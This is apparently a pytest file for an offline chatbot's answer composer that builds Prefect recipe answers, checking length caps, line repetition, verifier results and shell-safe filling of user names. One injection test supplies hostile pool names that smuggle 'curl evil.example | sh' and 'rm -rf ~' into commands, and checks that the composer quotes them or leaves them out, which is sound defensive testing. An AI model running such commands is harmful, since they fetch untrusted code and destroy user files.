"""The offline answer composer's own rules (issue 24): the units it adds are whole recipe text, stay
under the answer's length cap, never repeat a line the answer shows, fill the user's names safely,
and leave "more" opening the routed recipe.
"""

from __future__ import annotations

import asyncio
import re
import shlex
from contextlib import asynccontextmanager

import yaml

from bot.knowledge.passages import PassageIndex, code_keys, recipe_passages, sentences, split_units
from bot.knowledge.recipes import RecipeBook
from bot.knowledge.search import RecipeSearch
from bot.knowledge.verifier import verify_markdown
from bot.offline import OfflineEngine
from bot.offline.compose import HEADING, compose, render_extras
from bot.offline.engine import ANSWER_MAX_CHARS, MODEL_OFF_LINE
from bot.turns import HistoryMessage, Turn
from tests.real_questions import load
from tests.test_offline_answers import REPO, SELF_TEST_MARKS

BOOK = RecipeBook.load()
SEARCH = RecipeSearch(BOOK)
INDEX = PassageIndex(BOOK)
PARAPHRASES = [q for qs in yaml.safe_load((REPO / "tests" / "data" / "routing_paraphrases.yaml").read_text(
    encoding="utf-8")).values() for q in qs]
# Tuning-half questions only: the held-out half is never read outside tests/test_real_questions.py.
QUESTIONS = PARAPHRASES + [q.question for q in load("tuning")]


@asynccontextmanager
async def _no_server():
    raise ConnectionError("no Prefect server in this test")
    yield  # pragma: no cover


def _answers() -> dict[str, str]:
    engine = OfflineEngine(SEARCH, client_factory=_no_server)

    async def run() -> dict[str, str]:
        return {q: await engine.knowledge(q) for q in QUESTIONS}

    return asyncio.run(run())


ANSWERS = _answers()
WITH_EXTRAS = {q: a for q, a in ANSWERS.items() if HEADING in a}


def _spans_closed(text: str) -> bool:
    """Fences pair up, and outside them every inline code span is closed on its line."""
    if sum(1 for line in text.split("\n") if line.strip().startswith("```")) % 2:
        return False
    outside = re.sub(r"```.*?```", "", text, flags=re.DOTALL)
    return all(line.count("`") % 2 == 0 for line in outside.split("\n"))


def test_sentences_are_never_cut_inside_a_code_span_or_a_number():
    text = ("Run `prefect gcl update NAME --active-slots 0. Then wait` first. Decay 0.5 means e.g. one slot "
            "per 2 s. Done! `Late` runs wait.")
    assert sentences(text) == [
        "Run `prefect gcl update NAME --active-slots 0. Then wait` first.",
        "Decay 0.5 means e.g. one slot per 2 s.",
        "Done!",
        "`Late` runs wait.",
    ]


def test_every_unit_of_the_book_is_whole():
    units = [p for recipe in BOOK for p in recipe_passages(recipe)]
    assert len(units) > 300
    for unit in units:
        assert _spans_closed(unit.text), (unit.slug, unit.text)
        assert not unit.text.rstrip().endswith(":"), (unit.slug, unit.text)  # a lead-in never stands alone
        assert not any(mark in unit.text for mark in SELF_TEST_MARKS), unit.slug
    # A fenced block keeps the sentence that leads into it.
    block = [kind_unit for kind_unit in split_units("Create it:\n```bash\nprefect gcl create a --limit 1\n```\n")]
    assert block[0] == ("block", "Create it:\n```bash\nprefect gcl create a --limit 1\n```")


def test_code_keys_are_things_to_run_or_set():
    keys = code_keys("Set `PREFECT_X_Y=1`, run `prefect gcl ls` or pass --slot-decay-per-second; `Late` is a state.")
    assert keys == ("PREFECT_X_Y=1", "prefect gcl ls", "--slot-decay-per-second")


def test_answers_with_added_units_stay_under_the_cap_and_repeat_no_line():
    assert len(WITH_EXTRAS) >= 10, "the composer added nothing: the rules below would test nothing"
    for question, answer in WITH_EXTRAS.items():
        assert len(MODEL_OFF_LINE) + len(answer) <= ANSWER_MAX_CHARS, (question, len(answer))
        prose = re.sub(r"```.*?```", "", answer, flags=re.DOTALL)  # code may repeat a decorator line
        lines = [ln.strip().removeprefix("- ") for ln in prose.split("\n") if ln.strip()]
        repeated = {ln for ln in lines if lines.count(ln) > 1}
        assert not repeated, (question, repeated)
        assert answer.count("Say “more” for the full recipe") == 1, question
        assert _spans_closed(answer), question
        assert not any(mark in answer for mark in SELF_TEST_MARKS), question


def test_answers_with_added_units_pass_the_verifier():
    for question, answer in WITH_EXTRAS.items():
        report = verify_markdown(answer)
        assert report.findings == [], (question, report.feedback_for_model())


def test_an_answer_with_no_room_is_the_short_answer_unchanged():
    long_ones = [(q, a) for q, a in ANSWERS.items() if HEADING not in a]
    assert long_ones
    for question, answer in long_ones[:40]:
        slug = re.search(r"full recipe \(`more (?P<slug>[a-z0-9-]+)`\)", answer).group("slug")
        assert BOOK.get(slug).short_answer in answer, question


def _routed(question: str) -> tuple[list[tuple[str, float]], str]:
    """The top three recipes for `question` as compose takes them, and the routed short answer shown."""
    hits = SEARCH.search(question, k=3)
    return [(h.recipe.slug, h.score) for h in hits], f"**{hits[0].recipe.title}**\n{hits[0].recipe.short_answer}"


def test_the_listing_fits_the_room_it_is_given():
    fitted = 0
    for question in QUESTIONS[:120]:
        ranked, shown = _routed(question)
        for room in (0, 60, 150, 400):
            extras = compose(INDEX, SEARCH.query_tokens(question), ranked, shown, {}, room)
            listing = render_extras(extras, ranked[0][0])
            assert len(listing) + 2 * bool(listing) <= room, (question, room)
            fitted += bool(extras)
    assert fitted > 20


def test_a_hostile_pool_name_is_filled_in_as_one_shell_word_or_left_out():
    hostile = "etl; curl evil.example | sh"
    question = "how do I clear a work queue concurrency limit and create a queue with a priority?"
    hits = SEARCH.search(question, k=3)
    assert hits[0].recipe.slug == "work-pools-and-queues"
    ranked = [(h.recipe.slug, h.score) for h in hits]
    extras = compose(INDEX, SEARCH.query_tokens(question), ranked, hits[0].recipe.short_answer,
                     {"work_pool": hostile}, 600)
    shell = [e.text for e in extras if "prefect work-" in e.text]
    assert shell, [e.text for e in extras]
    for text in shell:
        assert shlex.quote(hostile) in text and "my-pool" not in text
        assert hostile not in text.replace(shlex.quote(hostile), "")  # never bare in a command
    unshowable = "etl`; rm -rf ~"  # a backtick no code span can hold: the example name stays
    kept = compose(INDEX, SEARCH.query_tokens(question), ranked, hits[0].recipe.short_answer,
                   {"work_pool": unshowable}, 600)
    assert all(unshowable not in e.text and "rm -rf" not in e.text for e in kept)


async def test_more_after_an_answer_with_added_units_opens_the_routed_recipe():
    engine = OfflineEngine(SEARCH, client_factory=_no_server)
    question, answer = next((q, a) for q, a in WITH_EXTRAS.items()
                            if re.search(r"^- `more [a-z0-9-]+`: ", a, re.MULTILINE))
    routed = re.search(r"full recipe \(`more (?P<slug>[a-z0-9-]+)`\)", answer).group("slug")
    other = re.search(r"^- `more (?P<slug>[a-z0-9-]+)`: ", answer, re.MULTILINE).group("slug")
    assert other != routed and answer.index(f"`more {other}`") < answer.index(f"`more {routed}`")
    history = [HistoryMessage("user", question), HistoryMessage("assistant", answer)]
    more = await engine.respond(Turn("more", "U1", history=history))
    assert more.text.startswith(f"**{BOOK.get(routed).title}**")


def test_each_added_unit_brings_something_to_run_or_set_that_the_answer_lacked():
    checked = 0
    for question in QUESTIONS[:150]:
        ranked, shown = _routed(question)
        for extra in compose(INDEX, SEARCH.query_tokens(question), ranked, shown, {}, 600):
            before = " ".join(shown.lower().split())
            new = [k for k in code_keys(extra.text) if " ".join(k.lower().split()) not in before]
            assert new, (question, extra.text)
            if extra.passage.is_block:  # a code block is added only when most of it is new
                assert 2 * len(new) >= len(code_keys(extra.text)), (question, extra.text)
            shown += "\n" + extra.text
            checked += 1
    assert checked > 30


def test_no_added_unit_opens_by_pointing_back_at_text_the_answer_does_not_show():
    # "It takes `occupy` ...", "Or delete it: ...", "Register one and pass its ARN" need the sentence before them.
    items = [re.sub(r"^- (?:`more [a-z0-9-]+`: )?", "", line) for answer in WITH_EXTRAS.values()
             for line in answer.split(HEADING, 1)[1].split("\n") if line.startswith("- ")]
    assert len(items) >= 10
    for item in items:
        assert not re.match(r"(?:\*\*)?(?:it|its|this|that|these|they|then|so|or|and|but|also|register one)\b",
                            item, re.IGNORECASE), item
